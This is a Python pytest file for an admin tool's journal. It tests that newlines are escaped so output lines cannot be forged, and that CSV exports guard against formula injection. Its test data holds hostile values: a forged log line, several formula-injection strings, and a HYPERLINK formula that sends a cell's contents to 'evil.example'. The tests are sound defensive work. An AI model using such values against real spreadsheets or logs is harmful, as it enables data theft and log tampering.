"""audit12: what the journal keeps, as people and spreadsheets are shown it, and how much.

- `journal show` (and every table) printed a value's newline raw: a summary holding
  "\\n" forged a line of the output. Now shown escaped; the journal keeps the value.
- `report monthly --out`'s CSV had no formula guard: an operator name starting with `=`
  became a spreadsheet formula. Now guarded as `journal export -f csv` and `-o csv` are.
- A failure's error text and data were journaled whole: a server answering 50 MB made a
  50 MB journal row and note. Now cut, with a marker saying so.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from adminkit.core.csvcell import FORMULA_START
from adminkit.journal.store import Filters, Journal

RUN = "R-20261207-120000-a12b12"
FORGED = "done\n  finished 2026-12-07T12:00:00: ok {'counts': {'changed': 1}}"
HUGE = 50 * 1024 * 1024  # characters of a hostile server's error body


def _journal_with_newlines(path: Path) -> None:
    """A run whose texts came from outside (a directory's value, a server's words)."""
    journal = Journal(path)
    common = {"run_id": RUN, "operator": "tester", "profile": "acme", "ticket": "local:1",
              "mode": "apply"}
    journal.append(kind="run", summary=f"account set jdoe {FORGED}", status="started",
                   **common)
    journal.append(kind="action", idx=0, action="account.set", target=f"jdoe\n{FORGED}",
                   status="failed", summary=f"account.set jdoe: {FORGED}",
                   diff=[{"op": "set", "field": "title", "before": "a\tb",
                          "after": f"x\n{FORGED}"}],
                   error=FORGED, **common)
    journal.append(kind="end", summary="x", status=f"failed\n{FORGED}",
                   detail={"counts": {"failed": 1}, "exit_code": 1}, **common)
    journal.close()


def _forged_lines(out: str) -> list[str]:
    return [line for line in out.splitlines() if line.lstrip().startswith("finished 2026-12-07T12")]


def test_journal_show_prints_a_values_newline_escaped(env: Any, cli: Any) -> None:
    _journal_with_newlines(env.journal)
    r = cli("journal", "show", RUN)
    assert r.code == 0, r.err
    assert _forged_lines(r.out) == [], r.out
    assert "account set jdoe done\\n  finished 2026-12-07T12:00:00" in r.out
    assert "title: a\\tb -> x\\ndone\\n" in r.out  # the diff line, whole on its line
    assert "finished " in r.out and ": failed\\ndone\\n" in r.out  # the end row's line
    # the journal keeps the real value: JSON gives it back exact
    shown = json.loads(cli("-o", "json", "journal", "show", RUN).out)
    assert shown["actions"][0]["error"] == FORGED


@pytest.mark.parametrize("args", [("journal", "list"), ("status", "local:1")])
def test_a_table_cell_shows_a_values_newline_escaped(env: Any, cli: Any,
                                                     args: tuple[str, ...]) -> None:
    _journal_with_newlines(env.journal)
    r = cli(*args)
    assert r.code == 0, r.err
    assert _forged_lines(r.out) == [], r.out
    assert "\\n  finished" in r.out


def test_the_monthly_reports_csv_guards_formulas(env: Any, cli: Any, tmp_path: Path) -> None:
    """Operators (ADMINKIT_OPERATOR is anyone's text), tickets and actions: text in the
    spreadsheet, never a formula; the numbers stay numbers."""
    (env.profiles / "acme.yaml").write_text("description: acme\n")
    journal = Journal(env.journal)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click") (login alice)'
    common = {"profile": "acme", "mode": "apply"}
    journal.append(kind="run", run_id="R-1", operator=evil, **common)
    journal.append(kind="action", run_id="R-1", idx=0, operator=evil, ticket="+1-555",
                   action="@SUM(A1)", target="x", status="changed", **common)
    journal.append(kind="run", run_id="R-2", operator="-2+3", **common)
    journal.append(kind="run", run_id="R-3", operator="\tcmd", **common)
    month = journal.entries(Filters(kinds=("run",)))[0]["time"][:7]
    journal.close()
    out = tmp_path / "acme.html"
    r = cli("-p", "acme", "report", "monthly", "--month", month, "--out", str(out))
    assert r.code == 0, r.err
    rows = list(csv.reader(out.with_suffix(".csv").open(newline="")))
    cells = [c for row in rows for c in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert ["runs by", "'" + evil, "", "1"] in rows
    assert ["runs by", "'-2+3", "", "1"] in rows and ["runs by", "'\tcmd", "", "1"] in rows
    assert ["ticket", "'+1-555", "", "1"] in rows
    assert ["action", "'@SUM(A1)", "changed", "1"] in rows
